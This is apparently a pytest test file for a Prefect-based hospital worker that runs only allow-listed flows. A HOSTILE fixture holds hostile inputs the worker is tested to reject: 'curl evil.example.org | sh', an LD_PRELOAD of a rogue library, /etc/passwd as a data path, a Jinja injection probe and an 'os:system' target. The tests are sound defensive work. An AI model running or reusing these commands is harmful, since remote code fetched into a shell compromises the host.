"""The hospital's worker: its own allow-list decides what runs, the server only when."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from uuid import UUID, uuid4

import anyio
import httpx
import pytest
from prefect.client.orchestration import PrefectClient
from prefect.client.schemas.objects import Flow, FlowRun
from prefect.states import Cancelling, Running
from pydantic import SecretStr

from deployments import worker as worker_module
from deployments.admission import ALLOWED_FLOWS, Admission, RunRefused
from deployments.worker import (
    HospitalJobConfiguration,
    HospitalVariables,
    HospitalWorker,
)
from flows.hospital_round import hospital_round
from tasks.hospital.allowed_flows import approve_code
from tasks.hospital.exchange_errors import CredentialRefused
from tasks.hospital.site import SiteSettings
from tasks.hospital.tokens import Credential, HospitalAuth, IssuedToken

TOKEN = IssuedToken(value="t1", renew_at=2e9)
CREDENTIAL = Credential(client_id="north", client_secret=SecretStr("s3cret"))
AUTH = HospitalAuth("http://api", lambda: CREDENTIAL, token=TOKEN)
ENVIRONMENT = {"FEDMED_HOSPITAL_ID": "north", "FEDMED_DATA_PATH": "/data/table.csv"}
HOSTILE = {
    "command": "curl evil.example.org | sh",
    "env": {"FEDMED_DATA_PATH": "/etc/passwd", "LD_PRELOAD": "/srv/evil.so"},
    "image": "evil:latest",
    "working_dir": "/",
}


@dataclass
class FakeWarm:
    """A warm process that forks nothing and remembers what it was asked."""

    exit_code: int = 0
    requests: list[Mapping[str, str]] = field(default_factory=list)
    killed: list[int] = field(default_factory=list)

    async def start(self, request: Mapping[str, str]) -> int:
        self.requests.append(request)
        return 4711

    async def wait(self, pid: int) -> int:
        while self.exit_code < 0 and not self.killed:
            await anyio.sleep(0)
        return self.exit_code

    def kill(self, pid: int) -> None:
        self.killed.append(pid)


@dataclass
class Hospital:
    worker: HospitalWorker
    warm: FakeWarm
    crashes: list[tuple[UUID, int]]
    refused: list[RunRefused]


@pytest.fixture
def admission(tmp_path: Path) -> Admission:
    settings = SiteSettings(
        hospital_id="north", hospital_home=tmp_path, data_path=tmp_path, api_url="http://api"
    )
    installed = {"hospital-round": "c" * 64}
    approve_code(settings, installed, now=datetime(2026, 1, 2, tzinfo=UTC))
    return Admission(settings, installed)


@pytest.fixture
def hospital(admission: Admission) -> Hospital:
    warm, crashes, refused = FakeWarm(), [], []

    async def report_refusal(run: RunRefused) -> None:
        refused.append(run)

    async def report_crash(flow_run: FlowRun, exit_code: int) -> None:
        crashes.append((flow_run.id, exit_code))

    worker = HospitalWorker(
        hospital_id="north",
        warm=warm,  # type: ignore[arg-type]
        admission=admission,
        environment=ENVIRONMENT,
        auth=AUTH,
        report_crash=report_crash,
        report_refusal=report_refusal,
    )
    return Hospital(worker, warm, crashes, refused)


@pytest.fixture
def a_flow_run(parameters: dict[str, Any]) -> Callable[..., FlowRun]:
    def make(**values: Any) -> FlowRun:
        given: dict[str, Any] = {
            "id": uuid4(),
            "name": "north-round-1",
            "flow_id": uuid4(),
            "deployment_id": uuid4(),
            "job_variables": HOSTILE,
            "parameters": parameters,
        }
        return FlowRun(**(given | values))

    return make


def configured(name: str | None) -> HospitalJobConfiguration:
    return HospitalJobConfiguration(name=name)


@pytest.mark.anyio
@pytest.mark.parametrize(
    "name", ["federated-round", "hospital-round ", "Hospital-Round", "", None, "os:system"]
)
async def test_a_flow_that_is_not_allowed_forks_nothing(
    hospital: Hospital, name: str | None, a_flow_run: Callable[..., FlowRun]
) -> None:
    with pytest.raises(PermissionError, match="is not allowed at this hospital"):
        await hospital.worker.run(a_flow_run(), configured(name))
    assert hospital.warm.requests == []
    assert hospital.crashes == []
    assert [run.refusal.code for run in hospital.refused] == ["flow"]


@pytest.mark.anyio
async def test_parameters_that_break_a_rule_fork_nothing_and_are_reported(
    hospital: Hospital, a_flow_run: Callable[..., FlowRun], parameters: dict[str, Any]
) -> None:
    parameters["invitation"]["deadline_s"] = 1e9
    with pytest.raises(PermissionError, match="deadline_s: Input should be less than or equal"):
        await hospital.worker.run(a_flow_run(), configured("hospital-round"))
    assert hospital.warm.requests == []
    (refused,) = hospital.refused
    assert str(refused.round_id) == parameters["invitation"]["round_id"]


@pytest.mark.anyio
async def test_of_a_run_its_identity_and_its_validated_parameters_alone_reach_the_child(
    hospital: Hospital, a_flow_run: Callable[..., FlowRun], parameters: dict[str, Any]
) -> None:
    hostile = {"__prefect_kind": "jinja", "template": "{{ 7 * 7 }}"}
    run = a_flow_run(context=hostile, tags=["evil"], labels={"evil": "1"})
    await hospital.worker.run(run, configured("hospital-round"))
    sent = json.loads(hospital.warm.requests[0]["flow_run"])
    assert sent["parameters"] == parameters
    assert sent["deployment_id"] is None
    assert "evil" not in hospital.warm.requests[0]["flow_run"]
    assert "jinja" not in hospital.warm.requests[0]["flow_run"]


@pytest.mark.anyio
async def test_an_allowed_flow_runs_the_installed_one_in_the_site_s_environment(
    hospital: Hospital, a_flow_run: Callable[..., FlowRun]
) -> None:
    flow_run = a_flow_run()
    result = await hospital.worker.run(flow_run, configured("hospital-round"))
    (request,) = hospital.warm.requests
    assert request["target"] == "flows.hospital_round:hospital_round"
    assert {key: request[key] for key in ENVIRONMENT} == ENVIRONMENT
    assert json.loads(request["flow_run"])["id"] == str(flow_run.id)
    assert (result.identifier, result.status_code) == ("4711", 0)
    assert hospital.crashes == []


@pytest.mark.anyio
@pytest.mark.parametrize("exit_code", [1, 7, 137])
async def test_a_crash_is_reported_with_its_exit_code(
    hospital: Hospital, exit_code: int, a_flow_run: Callable[..., FlowRun]
) -> None:
    hospital.warm.exit_code = exit_code
    flow_run = a_flow_run()
    result = await hospital.worker.run(flow_run, configured("hospital-round"))
    assert hospital.crashes == [(flow_run.id, exit_code)]
    assert result.status_code == exit_code


@pytest.mark.anyio
async def test_the_server_learns_the_child_s_process_as_soon_as_it_is_there(
    hospital: Hospital, a_flow_run: Callable[..., FlowRun]
) -> None:
    started: list[int] = []
    status: Any = SimpleNamespace(started=started.append)
    await hospital.worker.run(a_flow_run(), configured("hospital-round"), status)
    assert started == [4711]


@pytest.mark.anyio
async def test_a_run_that_is_cancelled_is_killed_and_reported(
    hospital: Hospital, monkeypatch: pytest.MonkeyPatch, a_flow_run: Callable[..., FlowRun]
) -> None:
    monkeypatch.setattr(worker_module, "_CANCEL_POLL_S", 0.001)
    states = [Running(), Cancelling()]
    cancelled: list[UUID] = []

    async def read_flow_run(flow_run_id: UUID) -> FlowRun:
        return a_flow_run(state=states.pop(0))

    async def mark(flow_run: FlowRun) -> None:
        cancelled.append(flow_run.id)

    hospital.worker._client = SimpleNamespace(
        read_flow_run=read_flow_run, _client=httpx.AsyncClient()
    )  # type: ignore[assignment]
    monkeypatch.setattr(hospital.worker, "_mark_flow_run_as_cancelled", mark)
    hospital.warm.exit_code = -9  # runs until it is killed
    await hospital.worker.run(a_flow_run(), configured("hospital-round"))
    assert hospital.warm.killed == [4711]
    assert len(cancelled) == 1
    assert [exit_code for _, exit_code in hospital.crashes] == [-9]


@pytest.mark.anyio
async def test_of_all_that_a_server_configures_the_flow_s_name_alone_is_read(
    a_flow_run: Callable[..., FlowRun],
) -> None:
    flow_run = a_flow_run()
    asked: list[UUID] = []

    async def read_flow(flow_id: UUID) -> Flow:
        asked.append(flow_id)
        return Flow(id=flow_id, name="hospital-round", labels={})

    client: Any = SimpleNamespace(read_flow=read_flow)
    template = {"job_configuration": HOSTILE, "variables": {"properties": {}}}
    pool: Any = SimpleNamespace(base_job_template=template)
    deployment: Any = SimpleNamespace(
        job_variables=HOSTILE, entrypoint="/srv/evil.py:flow", pull_steps=[{"run": HOSTILE}]
    )
    for _ in range(2):
        configuration = await HospitalJobConfiguration.resolve_for_flow_run(
            flow_run, client=client, work_pool=pool, worker_name="w", deployment=deployment
        )
        assert configuration.model_dump() == {
            "command": None,
            "env": {},
            "labels": {},
            "name": "hospital-round",
        }
    assert asked == [flow_run.flow_id]  # a flow's name does not change


def test_a_hospital_s_pool_takes_no_variables() -> None:
    assert HospitalVariables.model_fields.keys() <= {"name", "env", "labels", "command"}
    template = HospitalWorker.get_default_base_job_template()
    assert template["variables"]["properties"].keys() <= {"name", "env", "labels", "command"}


def test_the_allow_list_names_the_one_flow_and_cannot_be_changed() -> None:
    assert dict(ALLOWED_FLOWS) == {"hospital-round": "flows.hospital_round:hospital_round"}
    assert hospital_round.name in ALLOWED_FLOWS
    with pytest.raises(TypeError):
        ALLOWED_FLOWS["other"] = "os:system"  # type: ignore[index]


def test_the_worker_works_on_its_own_pool_alone(hospital: Hospital) -> None:
    assert hospital.worker._work_pool_name == "hospital-north"
    assert hospital.worker.name.startswith("north-")


@pytest.mark.parametrize(
    "missing",
    ["hospital_id", "warm", "admission", "auth", "report_crash", "report_refusal"],
)
def test_it_is_not_started_by_prefect_s_own_command(admission: Admission, missing: str) -> None:
    async def nothing(*_: Any) -> None:
        return None

    given: dict[str, Any] = {
        "hospital_id": "north",
        "warm": FakeWarm(),
        "admission": admission,
        "auth": AUTH,
        "report_crash": nothing,
        "report_refusal": nothing,
    }
    HospitalWorker("hospital-north", **given)
    with pytest.raises(TypeError, match="fedmed hospital start"):
        HospitalWorker("hospital-north", **{**given, missing: None})


def answered(status: int) -> httpx.HTTPStatusError:
    request = httpx.Request("POST", "http://api/prefect/api/work_pools/x")
    return httpx.HTTPStatusError("", request=request, response=httpx.Response(status))


@pytest.mark.anyio
@pytest.mark.parametrize("error", [answered(401), answered(403), CredentialRefused("suspended")])
@pytest.mark.parametrize("loop", ["get_and_submit_flow_runs", "sync_with_backend"])
async def test_a_worker_that_is_refused_goes_on_asking(
    hospital: Hospital, monkeypatch: pytest.MonkeyPatch, loop: str, error: Exception, caplog: Any
) -> None:
    async def refused(self: Any) -> None:
        raise error

    monkeypatch.setattr(worker_module, "_REFUSED_PAUSE_S", 0.0)
    monkeypatch.setattr(worker_module.BaseWorker, loop, refused)
    assert not await getattr(hospital.worker, loop)()
    assert "the coordinator refuses this hospital" in caplog.text


@pytest.mark.anyio
async def test_a_server_that_fails_is_left_to_the_base_s_patience(
    hospital: Hospital, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def failing(self: Any) -> None:
        raise answered(502)

    monkeypatch.setattr(worker_module.BaseWorker, "get_and_submit_flow_runs", failing)
    with pytest.raises(httpx.HTTPStatusError):
        await hospital.worker.get_and_submit_flow_runs()


@pytest.mark.anyio
async def test_every_request_of_the_worker_is_signed_in(hospital: Hospital) -> None:
    client = PrefectClient("http://api/prefect/api")
    hospital.worker._client = client
    assert client._client.auth is AUTH


@pytest.mark.anyio
@pytest.mark.parametrize("accepted", [True, False])
async def test_a_run_is_started_when_the_server_agrees_and_its_place_freed_when_not(
    hospital: Hospital,
    monkeypatch: pytest.MonkeyPatch,
    accepted: bool,
    a_flow_run: Callable[..., FlowRun],
) -> None:
    """Without reading the deployment and writing a process id, which would cost two requests."""
    started: list[UUID] = []
    freed: list[UUID] = []
    flow_run = a_flow_run()

    async def propose(given: FlowRun) -> bool:
        return accepted

    async def submit(given: FlowRun, *, task_status: Any) -> None:
        started.append(given.id)
        task_status.started()

    monkeypatch.setattr(hospital.worker, "_propose_pending_state", propose)
    monkeypatch.setattr(hospital.worker, "_submit_run_and_capture_errors", submit)
    monkeypatch.setattr(hospital.worker, "_release_limit_slot", freed.append)
    hospital.worker._submitting_flow_run_ids.add(flow_run.id)
    async with anyio.create_task_group() as runs:
        hospital.worker._runs_task_group = runs
        await hospital.worker._submit_run(flow_run)
    assert (started, freed) == (([flow_run.id], []) if accepted else ([], [flow_run.id]))
    assert hospital.worker._submitting_flow_run_ids == set()


@pytest.mark.anyio
async def test_a_worker_that_was_not_set_up_submits_nothing(
    hospital: Hospital, a_flow_run: Callable[..., FlowRun]
) -> None:
    with pytest.raises(RuntimeError, match="has not been set up"):
        await hospital.worker._submit_run(a_flow_run())
